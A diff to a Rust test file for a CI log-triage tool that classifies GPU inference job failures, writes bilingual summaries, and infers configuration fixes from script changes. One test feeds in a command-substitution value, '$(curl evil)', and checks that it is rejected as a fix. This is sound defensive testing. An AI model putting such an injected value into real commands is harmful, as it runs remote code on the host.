@@ -112,6 +112,19 @@ fn triage_names_class_entry_node_and_bounded_lines() {
     assert_eq!(entry.as_deref(), Some("docker-socket-permission-denied"));
     assert_eq!(lines.len(), 1);
     assert_eq!(lines[0].number, 3);
+    let summary = t.summary(&p);
+    assert!(
+        summary.en.starts_with("Infrastructure failure on mia1-p01-g11 (docker-socket-permission-denied): The node's runner"),
+        "{}",
+        summary.en
+    );
+    assert!(
+        summary.zh.starts_with(
+            "mia1-p01-g11 上的基础设施故障（docker-socket-permission-denied）：该节点"
+        ),
+        "{}",
+        summary.zh
+    );
 
     // Without a node in the log, the runner is the node.
     let view = JobLogView::new(
@@ -174,6 +187,9 @@ fn the_same_failure_on_two_nodes_has_one_signature() {
     );
     assert_eq!(a.class_name(), "unknown");
     assert_eq!(a.signature(), b.signature());
+    let id = &a.signature().unwrap().id;
+    assert_eq!(a.summary(&p).en, format!("Unknown failure, signature {id}"));
+    assert_eq!(a.summary(&p).zh, format!("未知故障，签名 {id}"));
     assert_eq!(a.lines()[0].number, 2);
 }
 
@@ -423,4 +439,169 @@ proptest! {
         }
         let _ = triage(&JobLogView::new(&log), &INFERENCEX, &JobContext::default());
     }
+}
+
+#[test]
+fn a_script_change_is_read_back_as_the_fix_it_is() {
+    use klaud_lifecycle::playbook::Fix;
+    let pairs = [
+        (
+            "scripts/vllm-h200.sh",
+            "scripts/vllm-h200.fixed.sh",
+            Some(Fix::SetArg {
+                name: "gpu-memory-utilization".into(),
+                from: Some("0.95".into()),
+                to: "0.90".into(),
+            }),
+        ),
+        (
+            "scripts/vllm-mi300x.sh",
+            "scripts/vllm-mi300x.fixed.sh",
+            Some(Fix::SetArg {
+                name: "gpu-memory-utilization".into(),
+                from: Some("0.95".into()),
+                to: "0.90".into(),
+            }),
+        ),
+        (
+            "scripts/vllm-b200-kimi.sh",
+            "scripts/vllm-b200-kimi.fixed.sh",
+            Some(Fix::SetEnv {
+                name: "VLLM_MEMORY_PROFILER_ESTIMATE_CUDAGRAPHS".into(),
+                value: "0".into(),
+            }),
+        ),
+        (
+            "scripts/gb300-decode.yaml",
+            "scripts/gb300-decode.fixed.yaml",
+            Some(Fix::SetArg {
+                name: "max-cudagraph-capture-size".into(),
+                from: Some("8192".into()),
+                to: "2048".into(),
+            }),
+        ),
+        (
+            "scripts/vllm-b200-kimi.fixed.sh",
+            "scripts/vllm-b200-kimi.sh",
+            Some(Fix::UnsetEnv {
+                name: "VLLM_MEMORY_PROFILER_ESTIMATE_CUDAGRAPHS".into(),
+            }),
+        ),
+        // Two changes at once, and no change, are not one fix.
+        ("scripts/vllm-h200.sh", "scripts/vllm-h200-already.sh", None),
+        ("scripts/vllm-h200.sh", "scripts/vllm-h200.sh", None),
+    ];
+    for (before, after, want) in pairs {
+        assert_eq!(
+            Fix::infer(&corpus::read(before), &corpus::read(after)),
+            want,
+            "{before} → {after}"
+        );
+    }
+    // A value that could run code is not a fix of the vocabulary.
+    assert_eq!(
+        Fix::infer("vllm serve --x 1\n", "vllm serve --x $(curl evil)\n"),
+        None
+    );
+    assert_eq!(
+        Fix::infer("vllm serve --x 1 --y 2\n", "vllm serve --x 3 --y 4\n"),
+        None
+    );
+}
+
+#[test]
+fn a_learned_entry_reads_back_matches_its_failure_and_carries_the_fix() {
+    use klaud_lifecycle::playbook::{Class, Fix, LearnInput, propose_entry};
+    let log = "JOB 7 running on b200-node-4\n(EngineCore_DP0 pid=301) ERROR 05-21 09:11:02 [core.py:708] RuntimeError: NCCL error in: /opt/nccl/src/init.cc:1203, unhandled cuda error 'out of memory' on rank 3\nServer process exited before becoming ready\n";
+    let view = JobLogView::new(log);
+    let ctx = JobContext {
+        framework: Some("vllm".into()),
+        engine_version: Some("v0.21.0-cu130".into()),
+        hardware: Some("b200".into()),
+        runner_name: Some("b200-nb_1".into()),
+        family: Some("configs/nvidia-master.yaml:kimik2.5-fp4-b200-vllm".into()),
+    };
+    let Triage::Unknown { signature, .. } = triage(&view, &Playbook::default(), &ctx) else {
+        panic!()
+    };
+    let before = corpus::read("scripts/vllm-h200.sh");
+    let after = corpus::read("scripts/vllm-h200.fixed.sh");
+    let fix = Fix::infer(&before, &after);
+    assert!(fix.is_some());
+    let proposal = propose_entry(&LearnInput {
+        signature: &signature,
+        ctx: &ctx,
+        class: Class::Engine,
+        fix,
+        change: String::new(),
+        pull: Some(2001),
+    })
+    .unwrap();
+    let text = format!("version: 1\nentries:\n{}", proposal.yaml);
+    let learned = Playbook::parse("learned.yaml", &text).unwrap_or_else(|e| panic!("{e}\n{text}"));
+    let entry = learned.entry(&proposal.id).unwrap();
+    assert!(entry.applies_to(&ctx));
+    assert!(!entry.applies_to(&JobContext {
+        hardware: Some("h200".into()),
+        ..ctx.clone()
+    }));
+    // The same failure on another node, rank and day is recognised.
+    let again = log
+        .replace("b200-node-4", "b200-node-9")
+        .replace("rank 3", "rank 0")
+        .replace("05-21 09:11:02", "06-01 00:00:00")
+        .replace("pid=301", "pid=17");
+    assert_eq!(
+        triage(&JobLogView::new(&again), &learned, &ctx).entry(),
+        Some(proposal.id.as_str())
+    );
+    assert_eq!(entry.fixes[0].apply(&before).unwrap().text, after);
+    assert!(
+        proposal
+            .yaml
+            .contains("seen_on: [2001, 'kimik2.5-fp4-b200-vllm']"),
+        "{}",
+        proposal.yaml
+    );
+    // Without a fix it is still an entry, saying what the change was.
+    let bare = propose_entry(&LearnInput {
+        signature: &signature,
+        ctx: &JobContext::default(),
+        class: Class::Engine,
+        fix: None,
+        change: "a person's push to the pull request".into(),
+        pull: None,
+    })
+    .unwrap();
+    let p = Playbook::parse("l.yaml", &format!("version: 1\nentries:\n{}", bare.yaml)).unwrap();
+    assert!(p.entries[0].fixes.is_empty());
+    assert!(p.entries[0].diagnosis.en.contains("a person's push"));
+}
+
+#[test]
+fn teardown_noise_and_a_sick_node_say_why_in_both_languages() {
+    let p = corpus::inferencex_playbook();
+    let t = triage(
+        &JobLogView::new(&corpus::read("logs/teardown-enginedead.log")),
+        &p,
+        &JobContext::default(),
+    );
+    assert!(!t.is_failure());
+    let s = t.summary(&p);
+    assert!(
+        s.en.starts_with("Teardown noise after the benchmark window (results printed on line 2), not a failure (engine-dead-after-window): The engine died"),
+        "{}",
+        s.en
+    );
+    assert!(s.zh.contains("第 2 行已输出结果"), "{}", s.zh);
+    let t = triage(
+        &JobLogView::new(&corpus::read("logs/sick-node-unknown.log")),
+        &p,
+        &JobContext::default(),
+    );
+    assert!(
+        t.summary(&p)
+            .en
+            .starts_with("Infrastructure failure on chi-mi300x-049 (node-local-disk-full)")
+    );
 }
